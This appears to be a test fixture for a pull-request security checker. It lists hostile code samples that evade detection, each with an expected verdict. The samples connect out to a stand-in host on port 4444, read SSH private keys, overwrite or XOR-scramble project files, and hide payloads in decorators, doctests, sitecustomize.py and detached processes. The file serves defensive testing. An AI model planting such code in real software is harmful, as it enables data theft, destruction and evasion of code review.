"""Hostile pull requests that once ended green, or less red than they should: each is a hole that was closed."""

from __future__ import annotations

from typing import Final

from tests.e2e.pulls import Pull

_CONNECTS = "import socket\ns = socket.socket()\ns.settimeout(1)\ns.connect_ex(('203.0.113.7', {port}))\n"

EVASIVE: Final = (
    # A stream to port 53 was taken for a look-up, and a look-up that showed its name hid it.
    Pull(
        name="port-53-as-cover",
        head={
            "src/pricing/x.py": _CONNECTS.format(port=53)
            + "try:\n    socket.getaddrinfo('x.local', 80)\nexcept OSError:\n    pass\n"
        },
        verdicts=("fail",),
        rules=("new-outbound-connection",),
    ),
    # Nobody waits for a daemon thread.
    Pull(
        name="waits-in-a-thread",
        head={
            "src/pricing/x.py": "import threading\n\n\ndef work():\n    threading.Event().wait(30)\n\n\n"
            "threading.Thread(target=work, daemon=True).start()\n"
        },
        verdicts=("warn",),
        rules=("early-exit",),
    ),
    # Every interpreter has a module of this name already: importing it ran another file.
    Pull(
        name="named-like-a-loaded-module",
        head={"sitecustomize.py": _CONNECTS.format(port=4444)},
        verdicts=("fail",),
        rules=("new-outbound-connection",),
    ),
    # The change touches no code at all.
    Pull(
        name="data-that-old-code-executes",
        base={
            "src/pricing/rules.py": "import pathlib\n\nexec((pathlib.Path(__file__).parent / 'rules.dat').read_text())\n",
            "src/pricing/rules.dat": "A = 1\n",
        },
        head={"src/pricing/rules.dat": _CONNECTS.format(port=4444)},
        verdicts=("fail",),
        rules=("new-outbound-connection",),
    ),
    # A secret under another name is no planted secret any more.
    Pull(
        name="moves-the-secret-first",
        head={
            "src/pricing/x.py": "import os\n\nos.rename(os.path.expanduser('~/.ssh'), '/tmp/y')\n"
            "open('/tmp/y/id_rsa').read()\n"
        },
        verdicts=("fail",),
        rules=("canary-read",),
    ),
    # Opening with O_CREAT looks like making a file.
    Pull(
        name="overwrites-the-tree",
        head={
            "src/pricing/x.py": """
                import pathlib

                for path in list(pathlib.Path(__file__).parents[2].rglob("*")):
                    if path.is_file():
                        path.write_bytes(b"LOCKED")
                """
        },
        verdicts=("fail",),
        rules=("write-outside-scratch",),
    ),
    # Base "did" it too: as a sample that nobody imports.
    Pull(
        name="sample-becomes-product",
        base={"tests/samples/caller.py": _CONNECTS.format(port=4444)},
        head={"tests/samples/caller.py": None, "src/pricing/caller.py": _CONNECTS.format(port=4444)},
        verdicts=("fail",),
        rules=("new-outbound-connection",),
    ),
    # Calls that end or hold up the process, in front of the one that matters.
    Pull(
        name="payload-behind-decoys",
        head={
            "src/pricing/x.py": "import os\nimport socket\n\n\n"
            + "".join(f"def d{n}():\n    os._exit(0) or socket or exec or eval\n\n\n" for n in range(12))
            + "def go():\n    k = __import__('soc' + 'ket')\n    k.create_connection(('203.0.113.7', 4444), 1)\n"
        },
        verdicts=("fail",),
    ),
    # Neither deleted nor emptied, and no source file at import: nobody counted.
    Pull(
        name="wraps-the-files-in-place",
        base={f"data/{number}.txt": "value\n" for number in range(30)},
        head={
            "src/pricing/x.py": """
                import pathlib


                def refresh(folder=None):
                    for path in sorted(pathlib.Path(__file__).parents[2].rglob("*.txt")):
                        with path.open("r+b") as file:
                            data = bytes(byte ^ 85 for byte in file.read())
                            file.seek(0)
                            file.write(data)
                """
        },
        verdicts=("fail",),
        rules=("destructive-delete",),
    ),
    # A decorator was called, what it gave back was not.
    Pull(
        name="in-a-decorator-s-wrapper",
        head={
            "src/pricing/x.py": "import functools\nimport socket\n\n\ndef retry(times=3):\n    def outer(function):\n"
            "        @functools.wraps(function)\n        def inner(*words):\n            s = socket.socket()\n"
            "            s.settimeout(1)\n            s.connect_ex(('203.0.113.7', 4444))\n"
            "            return function(*words)\n\n        return inner\n\n    return outer\n"
        },
        verdicts=("fail",),
        rules=("new-outbound-connection",),
    ),
    # Only doctest ever runs it.
    Pull(
        name="in-a-docstring-s-example",
        head={
            "pyproject.toml": '[project]\nname = "pricing"\nversion = "1.4.0"\n'
            '[tool.pytest.ini_options]\naddopts = "--doctest-modules"\n',
            "src/pricing/x.py": '"""Sums.\n\n>>> import socket\n>>> s = socket.socket(); s.settimeout(1)\n'
            '>>> _ = s.connect_ex((\'203.0.113.7\', 4444))\n"""\n',
        },
        verdicts=("fail", "warn"),
        rules=("new-outbound-connection",),
    ),
    # Nobody can say whether a file was there that is opened with O_CREAT: the host knows what it sent in.
    Pull(
        name="overwrites-without-reading",
        base={f"docs/page{n}.md": f"# Page {n}\n\nPrices and how they are made.\n" for n in range(40)},
        head={
            "src/pricing/tidy.py": """
                \"\"\"Keeps the documents tidy.\"\"\"

                import glob
                import os


                def tidy() -> None:
                    \"\"\"Every document.\"\"\"
                    for path in glob.glob("docs/*.md"):
                        with open(path, "wb") as file:
                            file.write(os.urandom(300))
                """
        },
        verdicts=("fail",),
        rules=("destructive-delete",),
    ),
    # The call returns at once; what it started sleeps until nobody looks.
    Pull(
        name="leaves-a-daemon",
        head={
            "src/pricing/_later.py": "import time\nimport urllib.request\n\n\ndef main():\n    time.sleep(60)\n"
            "    urllib.request.urlopen('http://203.0.113.7/' + 'x')\n\n\nif __name__ == '__main__':\n    main()\n",
            "src/pricing/x.py": "import subprocess\nimport sys\n\n\ndef warm():\n    subprocess.Popen(\n"
            "        [sys.executable, 'src/pricing/_later.py'], start_new_session=True\n    )\n",
        },
        verdicts=("warn", "fail"),
        rules=("process-left-behind",),
    ),
    Pull(
        name="leaves-a-shell-behind",
        head={
            "src/pricing/x.py": "import os\n\n\ndef warm():\n"
            "    os.system(\"nohup sh -c 'sleep 60; true' >/dev/null 2>&1 &\")\n"
        },
        verdicts=("warn", "fail"),
        rules=("process-left-behind",),
    ),
    Pull(
        name="a-script-leaves-a-shell-behind",
        head={"scripts/warm.sh": "#!/bin/sh\nsetsid sh -c 'sleep 60; true' >/dev/null 2>&1 &\n"},
        verdicts=("warn", "fail"),
        rules=("process-left-behind",),
    ),
)
